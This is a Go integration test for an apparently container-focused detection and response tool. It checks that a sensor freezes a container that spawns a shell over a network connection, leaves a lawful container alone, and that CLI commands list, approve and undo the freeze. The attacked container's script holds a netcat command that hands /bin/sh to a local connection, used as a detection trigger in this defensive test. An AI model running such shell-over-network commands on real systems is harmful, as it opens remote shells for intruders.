package main

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/esclusa/esclusa/internal/kerneltest"
	"github.com/esclusa/esclusa/internal/respond"
)

// locked is a buffer that a command writes while a test reads.
type locked struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (l *locked) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.Write(p)
}

func (l *locked) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.String()
}

// await waits until the words are there and returns all.
func (l *locked) await(t *testing.T, words string) string {
	t.Helper()
	for range 2000 {
		if s := l.String(); strings.Contains(s, words) {
			return s
		}
		time.Sleep(10 * time.Millisecond)
	}
	t.Fatalf("%q did not come:\n%s", words, l.String())
	return ""
}

// TestRespond is the whole product on this kernel: a sensor watches, a shell in
// a container takes its commands from a connection, the container is frozen;
// the commands list, show and undo it, first beside the sensor, and again when
// none runs. A container that does lawful work is not touched.
func TestRespond(t *testing.T) {
	kerneltest.Needs(t)
	state, shared := t.TempDir(), t.TempDir()
	esclusa := func(want int, args ...string) string {
		t.Helper()
		var out bytes.Buffer
		code := run(t.Context(), append(args, "--state", state), app{stdout: &out, stderr: &out, getenv: func(string) string { return "" }})
		if code != want {
			t.Fatalf("%v: exit code %d\n%s", args, code, &out)
		}
		for line := range strings.Lines(out.String()) {
			if !slices.Contains(args, "json") && len([]rune(line)) > 81 {
				t.Errorf("%v: more than 80 columns: %s", args, line)
			}
		}
		if slices.Contains(args, "json") {
			return out.String()
		}
		return strings.Join(strings.Fields(out.String()), " ") // as if no line were broken
	}
	watch := func() (out *locked, end func()) {
		ctx, stop := context.WithCancel(context.Background())
		out, ended := &locked{}, make(chan int)
		go func() {
			ended <- run(ctx, []string{"watch", "--respond", "enforce", "--state", state}, app{stdout: out, stderr: out, getenv: func(string) string { return "" }})
		}()
		end = sync.OnceFunc(func() {
			stop()
			if code := <-ended; code != 0 {
				t.Errorf("the sensor ended with %d:\n%s", code, out)
			}
		})
		t.Cleanup(end)
		out.await(t, "Ctrl-C ends it")
		return out, end
	}
	said, end := watch()

	mounts := []string{shared + ":/srv/x"}
	kerneltest.Container{Mounts: mounts, Script: `n=0; while :; do n=$((n+1)); echo $n >/srv/x/good; nc -z 127.0.0.1 5432; usleep 20000; done`}.Start(t, kerneltest.Name(t, "lawful"))
	kerneltest.Container{Mounts: mounts, Script: `nc -l -p 4471 -e /bin/sleep 100 & sleep 1; nc 127.0.0.1 4471 -e /bin/sh &
n=0; while :; do n=$((n+1)); echo $n >/srv/x/bad; usleep 20000; done`}.Start(t, kerneltest.Name(t, "attacked"))

	said.await(t, "freeze container")
	said.await(t, "evidence container")
	if counts(shared, "bad") || !counts(shared, "good") {
		t.Fatalf("the attacked container counts: %v, the lawful one: %v", counts(shared, "bad"), counts(shared, "good"))
	}
	list := esclusa(0, "respond", "list")
	id := regexp.MustCompile(`i-[0-9a-f]{8}`).FindString(list)
	if id == "" || !strings.Contains(list, "contained") || !strings.Contains(list, "to undo:") || strings.Contains(list, "lawful") {
		t.Fatalf("%s", list)
	}
	if show := esclusa(0, "respond", "show", id[:6]); !strings.Contains(show, "hands a program to the network") || !strings.Contains(show, "because ") {
		t.Error(show)
	}
	freeze := regexp.MustCompile(id + `\.\d+ freeze`).FindString(list)
	freeze, _, _ = strings.Cut(freeze, " ")
	if kept := esclusa(0, "respond", "approve", freeze, "--for", "24h"); !strings.Contains(kept, "kept longer") {
		t.Error(kept)
	}
	end() // what holds, holds without a sensor
	if counts(shared, "bad") {
		t.Fatal("it goes on because the sensor ended")
	}
	if list := esclusa(0, "respond", "list"); !strings.Contains(list, "no sensor responds") {
		t.Error(list)
	}
	if undone := esclusa(0, "respond", "undo", freeze); !strings.Contains(undone, "no sensor responds") || !strings.Contains(undone, "undone; a person asked for it") {
		t.Error(undone)
	}
	if !counts(shared, "bad") {
		t.Error("it does not go on")
	}
	if again := esclusa(2, "respond", "undo", freeze); !strings.Contains(again, "nothing that could be undone") {
		t.Error(again)
	}
	var st respond.State
	if err := json.Unmarshal([]byte(esclusa(0, "respond", "list", "--all", "--output", "json")), &st); err != nil || len(st.Incidents) != 1 {
		t.Errorf("%+v, %v", st, err)
	}
	_, end = watch() // the next sensor finds nothing to do
	end()
}

// counts says whether a container writes on.
func counts(dir, name string) bool {
	read := func() string {
		data, _ := os.ReadFile(filepath.Join(dir, name))
		return string(data)
	}
	from := read()
	for range 100 {
		if time.Sleep(10 * time.Millisecond); read() != from {
			return true
		}
	}
	return false
}
